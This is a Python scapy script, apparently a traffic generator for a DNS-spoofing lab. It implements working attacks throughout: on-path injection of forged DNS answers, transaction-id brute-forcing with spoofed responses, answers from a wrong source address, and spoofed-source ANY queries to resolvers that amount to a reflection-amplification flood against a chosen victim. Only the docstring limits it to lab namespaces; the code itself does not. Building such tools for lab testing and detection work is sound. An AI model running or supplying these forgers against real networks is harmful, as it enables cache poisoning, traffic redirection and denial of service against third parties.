#!/usr/bin/python3
"""forge.py -- forged DNS traffic for make-spoofed_response.sh (scapy; runs inside a lab namespace, never outside).

  forge.py race     --client C --server S --answer IP [--names n1,n2] [--seconds T]
      on-path forger: sniffs C's queries to S on the hub segment and at once injects one response spoofed from S
      (right id, ports, question; answer IP). The real server's answer follows later.
  forge.py txid     --client C --server S --answer IP --count N [--seconds T]
      off-path style: learns only C's source port from the sniffed query, then sends N responses spoofed from S to
      that port with random transaction ids (never the real one, so the outcome is deterministic), same question.
  forge.py wrongsrc --client C --server S --from F --answer IP [--seconds T]
      answers C's queries to S with the right id, ports and question, but from source address F.
  forge.py reflect  --victim V --targets a,b,c --weights 5,5,5 --queries N --seconds T --qspec name/TYPE,...
      spoofed-source queries (source V, random source ports) to the targets, paced over T seconds (raw IP socket:
      the kernel routes them; run it in the outside attacker's namespace).

Every forged frame leaves through eth0 of the namespace it runs in; the Ethernet source is that host's own MAC.
A log line per forged packet goes to stdout (the make script keeps it in the lab's log directory).
"""
import argparse
import random
import socket
import sys
import time

from scapy.all import DNS, DNSQR, DNSRR, DNSRROPT, IP, UDP, Ether, conf, get_if_hwaddr, sniff

conf.verb = 0
QTYPES = {"A": 1, "NS": 2, "MX": 15, "TXT": 16, "AAAA": 28, "DNSKEY": 48, "ANY": 255}  # numeric: scapy has no "ANY"
rng = random.Random()


def log(*a):
    print(f"{time.time():.6f}", *a, flush=True)


def forged_response(q, src, answer, txid=None):
    """Ethernet frame answering sniffed query frame q, from IP src, A answer."""
    dq = q[DNS]
    qd = dq.qd
    qname = qd.qname
    qtype = qd.qtype
    an = DNSRR(rrname=qname, type="A", rclass="IN", ttl=300, rdata=answer) if qtype == 1 else None
    dns = DNS(id=dq.id if txid is None else txid, qr=1, opcode=0, aa=0, tc=0, rd=dq.rd, ra=1, rcode=0,
              qd=DNSQR(qname=qname, qtype=qtype, qclass=qd.qclass), an=an)
    return (Ether(src=MYMAC, dst=q[Ether].src)
            / IP(src=src, dst=q[IP].src, id=rng.randrange(1, 65536), ttl=64)
            / UDP(sport=q[UDP].dport, dport=q[UDP].sport) / dns)


def run_sniffer(args, handle):
    flt = f"udp and dst port 53 and src host {args.client} and dst host {args.server}"
    names = set(n.rstrip(".").lower() for n in args.names.split(",")) if args.names else None
    sock = conf.L2socket(iface=args.iface)

    def prn(p):
        if DNS not in p or p[DNS].qr != 0 or p[DNS].qd is None:
            return
        qn = p[DNS].qd.qname.decode(errors="replace").rstrip(".").lower()
        if names is not None and qn not in names:
            return
        handle(sock, p, qn)

    log(f"sniffing on {args.iface}: {flt}")
    sniff(iface=args.iface, filter=flt, prn=prn, store=False, timeout=args.seconds, promisc=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["race", "txid", "wrongsrc", "reflect"])
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--client")
    ap.add_argument("--server")
    ap.add_argument("--answer", default="203.0.113.99")
    ap.add_argument("--names", default="")
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--count", type=int, default=80)
    ap.add_argument("--from", dest="from_", default="10.20.0.99")
    ap.add_argument("--victim")
    ap.add_argument("--targets", default="")
    ap.add_argument("--weights", default="")
    ap.add_argument("--queries", type=int, default=2000)
    ap.add_argument("--qspec", default="example.com/ANY")
    ap.add_argument("--seed", default=None)
    args = ap.parse_args()
    if args.seed is not None:
        rng.seed(args.seed)
    global MYMAC
    MYMAC = get_if_hwaddr(args.iface)

    if args.mode == "race":
        def h(sock, q, qn):
            sock.send(forged_response(q, args.server, args.answer))
            log(f"race: {qn} id={q[DNS].id} {args.client}:{q[UDP].sport} <- forged {args.server}:53 A {args.answer}")
        run_sniffer(args, h)
    elif args.mode == "wrongsrc":
        def h(sock, q, qn):
            sock.send(forged_response(q, args.from_, args.answer))
            log(f"wrongsrc: {qn} id={q[DNS].id} {args.client}:{q[UDP].sport} <- {args.from_}:53 A {args.answer}")
        run_sniffer(args, h)
    elif args.mode == "txid":
        def h(sock, q, qn):
            real = q[DNS].id
            ids = []
            while len(ids) < args.count:
                i = rng.randrange(0, 65536)
                if i != real and i not in ids:
                    ids.append(i)
            frames = [bytes(forged_response(q, args.server, args.answer, txid=i)) for i in ids]
            t0 = time.time()
            for f in frames:
                sock.send(f)
            log(f"txid: {qn} real id={real} port={q[UDP].sport}: {len(frames)} forged responses in "
                f"{(time.time() - t0) * 1000:.1f} ms, ids {ids[0]}..{ids[-1]}")
        run_sniffer(args, h)
    elif args.mode == "reflect":
        targets = args.targets.split(",")
        weights = [float(w) for w in args.weights.split(",")] if args.weights else [1.0] * len(targets)
        qspecs = []
        for spec in args.qspec.split(","):
            n, t = spec.split("/")
            qspecs.append((n, QTYPES[t.upper()] if not t.isdigit() else int(t)))
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        gap = args.seconds / args.queries
        t0 = time.time()
        sent = {}
        for k in range(args.queries):
            dst = rng.choices(targets, weights)[0]
            n, t = qspecs[k % len(qspecs)]
            pkt = (IP(src=args.victim, dst=dst, id=rng.randrange(1, 65536), ttl=64)
                   / UDP(sport=rng.randrange(1024, 65536), dport=53)
                   / DNS(id=rng.randrange(0, 65536), rd=1, qd=DNSQR(qname=n, qtype=t),
                         ar=DNSRROPT(rclass=4096)))
            s.sendto(bytes(pkt), (dst, 0))
            sent[dst] = sent.get(dst, 0) + 1
            delay = t0 + (k + 1) * gap - time.time()
            if delay > 0:
                time.sleep(delay)
        log(f"reflect: {args.queries} queries in {time.time() - t0:.1f} s, source {args.victim}: {sent}")


if __name__ == "__main__":
    sys.exit(main())
